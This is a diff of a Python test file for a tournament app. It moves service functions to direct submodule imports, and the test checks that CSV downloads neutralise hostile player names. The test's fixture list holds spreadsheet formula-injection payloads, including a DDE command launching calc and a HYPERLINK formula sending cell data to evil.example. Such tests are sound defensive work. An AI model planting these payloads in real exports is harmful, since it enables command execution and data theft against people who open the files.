@@ -11,8 +11,12 @@ import pytest
 
 from tests.api.helpers import client_for
 from tests.factories import UserFactory
-from tournaments import services
 from tournaments.exports import csv_cell
+from tournaments.services.draws import round_draw
+from tournaments.services.entries import entry_check_in, entry_register
+from tournaments.services.penalties import penalty_add
+from tournaments.services.players import player_create
+from tournaments.services.rounds import round_create, round_publish
 from tournaments.standings import standings_recompute
 
 HOSTILE = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1,"click")',
@@ -39,13 +43,13 @@ def test_every_csv_download_neutralises_hostile_names(event, organizer):
     entries = []
     for i in range(12):
         name = HOSTILE[i % len(HOSTILE)] if i < len(HOSTILE) else f"Player {i:02d}"
-        player = services.player_create(name=name, number=200 + i,
+        player = player_create(name=name, number=200 + i,
                                         user=UserFactory(username=f"csv{i:02d}"))
-        entries.append(services.entry_check_in(
-            entry=services.entry_register(event=event, player=player)))
-    rnd = services.round_draw(round_id=services.round_create(event=event).pk)
-    services.round_publish(round=rnd)
-    services.penalty_add(event=event, entry=entries[0], kind="point_deduction", points=3,
+        entries.append(entry_check_in(
+            entry=entry_register(event=event, player=player)))
+    rnd = round_draw(round_id=round_create(event=event).pk)
+    round_publish(round=rnd)
+    penalty_add(event=event, entry=entries[0], kind="point_deduction", points=3,
                          reason="slow play", by=organizer)
     standings_recompute(event_id=event.pk, force=True)
     anon = client_for(None)
